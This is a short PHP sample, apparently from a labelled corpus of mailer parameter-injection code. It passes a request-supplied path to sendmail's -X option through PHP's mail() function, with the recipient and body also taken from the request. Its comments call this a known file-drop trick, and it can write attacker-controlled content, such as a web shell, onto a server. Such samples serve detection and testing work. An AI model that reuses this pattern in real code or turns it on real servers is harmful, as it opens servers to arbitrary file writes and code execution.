<?php
// Family: mailer/param-injection
// Style: sendmail log-file write through additional parameters
// Trait: -X option with a request-controlled path writes the message transcript, a known file-drop trick
$p = '-OQueueDirectory=/tmp -X' . $_GET['log'];
mail($_GET['to'], 'x', $_GET['payload'], '', $p);
echo 'ok';
